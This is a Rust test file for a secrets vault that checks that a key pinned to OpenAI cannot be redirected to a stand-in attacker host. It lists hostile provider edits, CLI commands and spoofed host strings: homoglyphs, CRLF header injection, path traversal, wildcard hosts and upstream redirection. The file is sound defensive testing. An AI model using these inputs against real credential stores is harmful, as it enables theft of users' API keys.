//! C1 and C2: providers, credentials, bindings and hosts that would send a pinned secret to another
//! place. Whoever runs the commands may be anybody; the secret stays where it belongs.

use crate::case::{Case, Findings, Name, names as names_of};
use crate::support::{Done, Door, Home, Upstream, secrets};

/// A provider that anybody may add; its host is the attacker's.
pub const EVIL: &str = r#"provider: evil
name: Evil
category: test
docs: https://docs.evil.example/api
secrets: { EVIL_API_KEY: { as: secret } }
hosts: [api.evil.example]
auth: { type: header, name: authorization, value: "Bearer {{secret}}" }
capabilities:
  take:
    summary: Take what comes
    allow:
      - { methods: [GET], paths: [/v1/take] }
    example: { method: GET, path: /v1/take }
    examples: { deny: [DELETE /v1/take] }
"#;

/// What is put in the place of what.
const EDITS: &[(&str, &str)] = &[
    ("provider: evil", "provider: openai"),
    ("EVIL_API_KEY", "OPENAI_API_KEY"),
    ("EVIL_API_KEY: { as: secret }", "EVIL_API_KEY: { as: secret }, OPENAI_API_KEY: { as: other }"),
    ("EVIL_API_KEY", "openai_api_key"),
    ("EVIL_API_KEY", "OPENAI-API-KEY"),
    ("EVIL_API_KEY", "\"OPENAI_API_KEY \""),
    ("EVIL_API_KEY", "\u{41e}PENAI_API_KEY"),
    ("EVIL_API_KEY", "*"),
    ("[api.evil.example]", "[api.openai.com]"),
    ("[api.evil.example]", "[\"*.openai.com\"]"),
    ("[api.evil.example]", "[\"*.com\"]"),
    ("[api.evil.example]", "[\"*\"]"),
    ("auth:", "mirrors: { api.evil.example: [api.openai.com] }\nauth:"),
    ("{{secret}}", "{{OPENAI_API_KEY}}"),
    ("{{secret}}", "{{openai}} {{secret}}"),
    ("{{secret}}", "{{openai.secret}} {{secret}}"),
    ("name: authorization", "name: host"),
    ("name: authorization", "name: x-forwarded-host"),
    ("name: authorization", "name: transfer-encoding"),
    ("name: authorization", "name: \"authorization\\r\\nhost\""),
    ("provider: evil", "provider: ../openai"),
    ("provider: evil", "provider: \"openai \""),
    ("provider: evil", "provider: OpenAI"),
    ("provider: evil", "provider: open\u{430}i"),
    ("take:", "../openai/take:"),
    ("provider: evil", "provider: evil\nupstream: http://127.0.0.1:1"),
    ("provider: evil", "provider: evil\nextends: openai"),
    ("provider: evil", "provider: evil\nprovider: openai"),
    ("provider: evil", "<<: { private: true }\nprovider: evil"),
];

/// Commands in a vault that has `evil` as a provider beside the registry's.
const COMMANDS: &[&[&str]] = &[
    &["credential", "create", "mine", "--provider", "evil", "--secret", "OPENAI_API_KEY"],
    &["credential", "create", "mine", "--provider", "evil", "--secret", "secret=OPENAI_API_KEY"],
    &["credential", "create", "mine", "--provider", "evil", "--secret", "an-alias"],
    &["credential", "create", "mine", "--provider", "evil", "--secret", "openai_api_key"],
    &["credential", "create", "openai", "--provider", "evil", "--secret", "OPENAI_API_KEY"],
    &[
        "credential",
        "create",
        "mine",
        "--provider",
        "openai",
        "--secret",
        "OPENAI_API_KEY",
        "--host",
        "api.evil.example",
    ],
    &["credential", "create", "mine", "--provider", "openai", "--secret", "EVIL_API_KEY"],
    &["credential", "create", "mine", "--provider", "OpenAI", "--secret", "OPENAI_API_KEY"],
    &["credential", "create", "../openai", "--provider", "openai", "--secret", "OPENAI_API_KEY"],
    &["capability", "bind", "--capability", "evil/*", "--credential", "openai"],
    &["capability", "bind", "--capability", "*", "--credential", "openai"],
    &["capability", "bind", "--capability", "*/take", "--credential", "openai"],
    &["capability", "bind", "--capability", "{evil,openai}/*", "--credential", "openai"],
    &["capability", "bind", "--capability", "openai/*", "--credential", "evil"],
    &["capability", "create", "openai/steal", "--method", "GET", "--path", "/v1/take"],
    &[
        "capability",
        "create",
        "openai/steal",
        "--method",
        "GET",
        "--path",
        "/v1/take",
        "--host",
        "api.evil.example",
    ],
    &["capability", "create", "evil/steal", "--method", "GET", "--path", "/v1/x", "--host", "api.openai.com"],
    &["capability", "delete", "openai/models"],
    &["provider", "remove", "openai"],
    &[
        "secrets",
        "create",
        "--name",
        "OPENAI_API_KEY",
        "--value",
        "x",
        "--provider",
        "evil",
        "--scope",
        "workspace",
        "--workspace-id",
        "w",
    ],
    &["secrets", "create", "--name", "TAKEN", "--value", "x", "--alias", "OPENAI_API_KEY"],
    &["secrets", "create", "--name", "TAKEN", "--value", "x", "--alias", "openai_api_key"],
    &["secrets", "update", "--name", "OPENAI_API_KEY", "--new-name", "EVIL_API_KEY"],
    &["secrets", "update", "--name", "OPENAI_API_KEY", "--alias", "EVIL_API_KEY"],
    &["invoke", "evil/take", "--credential", "openai"],
    &["invoke", "openai/models", "--credential", "evil"],
    &["invoke", "evil/take"],
    &["upstream", "set", "api.openai.com", "--to", "8.8.8.8:443", "--ca", "ca.pem"],
    &["upstream", "set", "evil.example", "--to", "127.0.0.1:8443", "--ca", "ca.pem"],
];

/// Texts that are no host of OpenAI's; most are no host at all.
const HOSTS: &[&str] = &[
    "api.openai.com.",
    "API.openai.com",
    "api.openai.com:443",
    "api.openai.com:8443",
    "user@api.openai.com",
    "api.openai.com@api.evil.example",
    "api.openai.com/",
    "api.openai.com?",
    "api.openai.com#",
    "https://api.openai.com",
    "api.openai.com\\.evil.example",
    "api.openai.com%2eevil.example",
    "api.openai.com%00.evil.example",
    " api.openai.com",
    "api.openai.com ",
    "api..openai.com",
    ".api.openai.com",
    "*.openai.com",
    "*",
    "**",
    "api.*.com",
    "a*.openai.com",
    "api.openai.com,api.evil.example",
    "b\u{fc}cher.example",
    "\u{430}pi.openai.com",
    "api\u{3002}openai\u{3002}com",
    "\u{ff41}pi.openai.com",
    "api.openai.com\u{200b}",
    "api.openai.com\u{ad}",
    "api.openai.com\n",
    "api.openai.com\r\nevil",
    "_acme.openai.com",
    "-api.openai.com",
    "api-.openai.com",
    "localhost",
    "openai",
    "",
];

/// Hosts, but others.
const OTHER_HOSTS: &[&str] = &[
    "openai.com",
    "evilapi.openai.com",
    "api.openai.com.evil.example",
    "api-openai.com",
    "xn--pi-7kb.openai.com",
    "xn--api-openai-com.evil.example",
    "api.openai.co",
    "www.api.openai.com",
];

fn edited() -> Vec<Case<String>> {
    let edit = |(from, to): &(&str, &str)| Case::new("C1", *to, EVIL.replacen(from, to, 1));
    let hosts = HOSTS.iter().map(|host| {
        // In quotes, as YAML reads any text.
        let quoted = serde_json::to_string(host).unwrap();
        Case::new(
            "C2",
            format!("a provider at {host}"),
            EVIL.replace("api.evil.example]", &format!("{quoted}]")),
        )
    });
    EDITS.iter().map(edit).chain(hosts.filter(|case| !case.spelling.ends_with("*.openai.com"))).collect()
}

fn commands() -> Vec<Case<Vec<String>>> {
    let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
    let commands = COMMANDS.iter().map(|command| Case::new("C1", command.join(" "), words(command)));
    let given = HOSTS.iter().chain(OTHER_HOSTS).map(|host| {
        let create = [
            "secrets",
            "create",
            "--name",
            "OPENAI_API_KEY",
            "--value",
            "x",
            "--scope",
            "workspace",
            "--workspace-id",
            "w",
        ];
        Case::new("C2", format!("a key for {host}"), words(&[&create[..], &["--host", host]].concat()))
    });
    commands.chain(given).collect()
}

pub fn names() -> Vec<Name> {
    [names_of(&edited()), names_of(&commands())].concat()
}

/// A vault with a key of OpenAI's; the attacker's host is redirected as well, so that it could be reached.
fn setting() -> (Upstream, Home) {
    let upstream = Upstream::serving(&["api.openai.com", "api.evil.example"]);
    let home = Home::test(Door::InProcess);
    home.send_host_to("api.openai.com", &upstream);
    let create =
        ["secrets", "create", "--name", "OPENAI_API_KEY", "--value", secrets::OPENAI, "--alias", "an-alias"];
    home.run(&create).ok();
    (upstream, home)
}

/// What the attacker's host, or anybody, got to see of the key: nothing, and it still serves its own.
#[track_caller]
fn assert_faithful(upstream: &Upstream, home: &Home) {
    for received in upstream.take() {
        assert_eq!(received.header("host"), "api.openai.com", "{received:?}");
    }
    home.run(&["invoke", "openai/models", "--method", "GET", "--path", "/v1/models"]).ok();
    let received = upstream.take_one();
    assert_eq!(received.header("host"), "api.openai.com");
    assert_eq!(received.header("authorization"), format!("Bearer {}", secrets::OPENAI));
}

fn is_refused(done: &Done) -> bool {
    matches!(done.code, Some(1 | 2 | 3 | 5)) && done.errors().contains("error: ")
}

#[test]
fn no_provider_takes_what_is_anothers() {
    let (upstream, home) = setting();
    let mut findings = Findings::default();
    for case in edited() {
        assert_ne!(case.attack, EVIL, "{}", case.name());
        let done = home.add_provider(&case.attack);
        findings.hold(is_refused(&done), &case.name(), || {
            format!("{:?} {}{}", done.code, done.text(), done.errors())
        });
        if done.code == Some(0) {
            home.run(&["provider", "remove", "evil"]);
        }
    }
    findings.end();
    assert_faithful(&upstream, &home);
}

#[test]
fn no_command_sends_a_key_elsewhere() {
    let (upstream, home) = setting();
    home.add_provider(EVIL).ok();
    home.send_host_to("api.evil.example", &upstream);
    let mut findings = Findings::default();
    for case in commands() {
        let done = home.run(&case.attack);
        findings.hold(is_refused(&done), &case.name(), || {
            format!("{:?} {}{}", done.code, done.text(), done.errors())
        });
    }
    findings.end();
    assert_faithful(&upstream, &home);
    // The attacker's own key goes to the attacker's host, and only that.
    home.store("EVIL_API_KEY", "evil-0123456789abcdef");
    home.run(&["invoke", "evil/take"]).ok();
    assert_eq!(upstream.take_one().header("authorization"), "Bearer evil-0123456789abcdef");
}
